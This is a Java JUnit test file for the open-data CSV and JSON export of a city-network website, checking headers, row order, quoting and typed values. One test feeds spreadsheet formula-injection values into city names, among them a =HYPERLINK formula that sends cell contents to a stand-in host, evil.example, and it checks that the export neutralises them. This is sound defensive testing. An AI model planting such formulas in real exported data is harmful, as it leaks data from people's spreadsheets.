package eu.eurocities.site.render;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import eu.eurocities.site.TestContent;
import eu.eurocities.site.diag.Diagnostics;
import eu.eurocities.site.model.City;
import eu.eurocities.site.model.Content;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

class OpenDataTest {
    static Content content;

    @BeforeAll
    static void load() {
        Diagnostics diagnostics = new Diagnostics();
        content = TestContent.load(Path.of("."), null, diagnostics)
                .orElseThrow(() -> new AssertionError(diagnostics.sorted()));
    }

    @Test
    void csvHasAHeaderRowThenOneCrlfRowPerCityInSlugOrder() throws IOException {
        String csv = new String(OpenData.csv(content), StandardCharsets.UTF_8);
        String[] lines = csv.split("\r\n", -1);
        assertEquals(
                "slug,name,local_name,country,country_name,eu,membership,population,population_year,"
                        + "founding_member,url,kind,seat,geonames_id,latitude,longitude,population_source,"
                        + "population_snapshot,alternative_names",
                lines[0]);
        assertEquals(
                "aarhus,Aarhus,,DK,Denmark,true,full,237551,,false,https://eurocities.example.org/cities/aarhus/,"
                        + "city,,2624652,56.15674,10.21076,GeoNames,2020-03-18,",
                lines[1]);
        assertEquals(202 + 2, lines.length, "header, 202 rows, and the empty string after the last CRLF");
        assertEquals("", lines[lines.length - 1]);
        assertTrue(
                csv.contains("\r\nlodz,Łódź,,PL,Poland,true,full,768755,,false,https://eurocities.example.org/cities/"
                        + "lodz/,city,,3093133,51.77058,19.47395,GeoNames,2020-03-18,\r\n"),
                csv);
        assertTrue(csv.contains("\r\nmunich,Munich,München,DE,Germany,true,full,1260391,,false,"), csv);
        assertTrue(
                csv.contains("\r\nrijeka,Rijeka,,HR,Croatia,true,partner,128624,2011,false,https://eurocities.example"
                        + ".org/cities/rijeka/,city,,3191648,45.32673,14.44241,Croatian census,,\r\n"),
                csv);
        assertTrue(csv.contains("\r\nbergen,Bergen,,NO,Norway,false,full,213585,,false,"), csv);
        assertTrue(csv.contains("\r\nbirmingham,Birmingham,,GB,United Kingdom,false,associate,984333,,true,"), csv);
        assertTrue(
                csv.contains("\r\nbrussels,Brussels,,BE,Belgium,true,full,1019022,,false,https://eurocities.example"
                        + ".org/cities/brussels/,city,,2800866,50.85045,4.34878,GeoNames,2020-03-18,"
                        + "Bruxelles (fr); Brussel (nl)\r\n"),
                csv);
        assertTrue(
                csv.contains("\r\nbrabantstad,BrabantStad,,NL,Netherlands,true,full,,,false,https://eurocities"
                        + ".example.org/cities/brabantstad/,grouping,,,,,,,\r\n"),
                csv);
    }

    @Test
    void csvReadsBackWithAnRfc4180Reader() throws IOException {
        List<CSVRecord> records = CSVFormat.RFC4180
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(new String(OpenData.csv(content), StandardCharsets.UTF_8)))
                .getRecords();
        assertEquals(202, records.size());
        CSVRecord kyiv = records.stream()
                .filter(r -> r.get("slug").equals("kyiv"))
                .findFirst()
                .orElseThrow();
        assertEquals("Київ", kyiv.get("local_name"));
        assertEquals("UA", kyiv.get("country"));
        assertEquals("false", kyiv.get("eu"));
    }

    @Test
    void csvQuotesCommasQuotesAndLineBreaks() {
        TreeMap<String, City> cities = new TreeMap<>(content.cities());
        City aarhus = cities.get("aarhus");
        cities.put(
                "aarhus",
                new City(
                        "aarhus",
                        "Aarhus, \"the city of smiles\"",
                        aarhus.country(),
                        aarhus.membership(),
                        null,
                        null,
                        null,
                        null,
                        null,
                        null,
                        null,
                        null,
                        false,
                        "line\nbreak",
                        "da",
                        null,
                        List.of(),
                        aarhus.positions(),
                        false,
                        List.of(),
                        null));
        Content changed = new Content(
                content.site(), content.network(), content.categories(), content.countries(), cities, content.pages());
        String row = new String(OpenData.csv(changed), StandardCharsets.UTF_8).split("\r\n")[1];
        assertEquals(
                "aarhus,\"Aarhus, \"\"the city of smiles\"\"\",\"line\nbreak\",DK,Denmark,true,full,,,false,"
                        + "https://eurocities.example.org/cities/aarhus/,,,,,,,,",
                row);
    }

    @Test
    void csvNeutralisesTextThatASpreadsheetWouldRunAsAFormula() throws IOException {
        TreeMap<String, City> cities = new TreeMap<>(content.cities());
        City aarhus = cities.get("aarhus");
        City bergen = cities.get("bergen");
        City rijeka = cities.get("rijeka");
        cities.put(
                "aarhus",
                new City(
                        "aarhus",
                        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Aarhus\")",
                        aarhus.country(),
                        aarhus.membership(),
                        null,
                        null,
                        null,
                        null,
                        null,
                        null,
                        null,
                        null,
                        false,
                        "+1+2",
                        "da",
                        null,
                        List.of(),
                        aarhus.positions(),
                        false,
                        List.of(),
                        null));
        cities.put(
                "bergen",
                new City(
                        "bergen",
                        "@SUM(1,2)",
                        bergen.country(),
                        bergen.membership(),
                        null,
                        null,
                        null,
                        null,
                        null,
                        null,
                        null,
                        null,
                        false,
                        "-2+3",
                        "no",
                        null,
                        List.of(),
                        bergen.positions(),
                        false,
                        List.of(),
                        null));
        cities.put(
                "rijeka",
                new City(
                        "rijeka",
                        "\t=1+2",
                        rijeka.country(),
                        rijeka.membership(),
                        City.Kind.METROPOLITAN_AREA,
                        "=seat",
                        3191648L,
                        new City.Location(45.32673, -14.44241),
                        128624L,
                        "-source",
                        2011,
                        null,
                        false,
                        "\r=1+2",
                        "hr",
                        null,
                        List.of(new City.AlternativeName("=Fiume", "it"), new City.AlternativeName("Reka", "sl")),
                        rijeka.positions(),
                        false,
                        List.of(),
                        null));
        Content changed = new Content(
                content.site(), content.network(), content.categories(), content.countries(), cities, content.pages());
        String csv = new String(OpenData.csv(changed), StandardCharsets.UTF_8);
        assertTrue(
                csv.contains(
                        "\r\naarhus,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Aarhus\"\")\",\"'+1+2\",DK,"),
                csv);
        assertTrue(csv.contains("\r\nbergen,\"'@SUM(1,2)\",\"'-2+3\",NO,"), csv);
        assertTrue(
                csv.contains("\r\nrijeka,\"'\t=1+2\",\"'\r=1+2\",HR,Croatia,true,partner,128624,2011,false,"
                        + "https://eurocities.example.org/cities/rijeka/,metropolitan-area,\"'=seat\",3191648,"
                        + "45.32673,-14.44241,\"'-source\",,\"'=Fiume (it); Reka (sl)\"\r\n"),
                csv);
        // a reader gets the text with the quote in front, and every other cell as it was
        List<CSVRecord> records = CSVFormat.RFC4180
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(csv))
                .getRecords();
        CSVRecord bergenRow = records.stream()
                .filter(r -> r.get("slug").equals("bergen"))
                .findFirst()
                .orElseThrow();
        assertEquals("'@SUM(1,2)", bergenRow.get("name"));
        assertEquals("'-2+3", bergenRow.get("local_name"));
        assertEquals(202, records.size());
        // JSON is not run by any reader: it keeps the text as it is
        String json = new String(OpenData.json(changed), StandardCharsets.UTF_8);
        assertTrue(json.contains("\"name\" : \"@SUM(1,2)\""), json);
        assertTrue(
                json.contains(
                        "\"alternative_names\" : [ {\n    \"name\" : \"=Fiume\",\n    \"language\" : \"it\"\n  }"),
                json);
    }

    @Test
    void jsonHasTheSameRowsWithTypedValuesInColumnOrder() throws IOException {
        JsonNode rows = new ObjectMapper().readTree(OpenData.json(content));
        assertEquals(202, rows.size());
        JsonNode munich = null;
        JsonNode rijeka = null;
        for (JsonNode row : rows) {
            List<String> keys = new ArrayList<>();
            row.fieldNames().forEachRemaining(keys::add);
            assertEquals(OpenData.COLUMNS, keys);
            if (row.get("slug").asText().equals("munich")) {
                munich = row;
            } else if (row.get("slug").asText().equals("rijeka")) {
                rijeka = row;
            }
        }
        assertEquals("München", munich.get("local_name").asText());
        assertTrue(munich.get("eu").isBoolean() && munich.get("eu").asBoolean());
        assertEquals(1260391, munich.get("population").asLong());
        assertEquals(48.13743, munich.get("latitude").asDouble());
        assertTrue(rijeka.get("population").isNumber());
        assertEquals(128624, rijeka.get("population").asLong());
        assertEquals(2011, rijeka.get("population_year").asInt());
        assertEquals("Croatian census", rijeka.get("population_source").asText());
        assertEquals("city", rijeka.get("kind").asText());
        assertTrue(rijeka.get("population_snapshot").isNull());
        assertTrue(rijeka.get("alternative_names").isArray()
                && rijeka.get("alternative_names").isEmpty());
        assertEquals(
                "https://eurocities.example.org/cities/munich/",
                munich.get("url").asText());
        assertEquals("aarhus", rows.get(0).get("slug").asText());
    }

    @Test
    void rowsFollowTheBaseUrl() {
        Diagnostics diagnostics = new Diagnostics();
        Content sub = TestContent.load(
                        Path.of("."), java.net.URI.create("https://user.github.io/eurocities/"), diagnostics)
                .orElseThrow();
        Map<String, Object> first = OpenData.rows(sub).get(0);
        assertEquals("https://user.github.io/eurocities/cities/aarhus/", first.get("url"));
    }
}
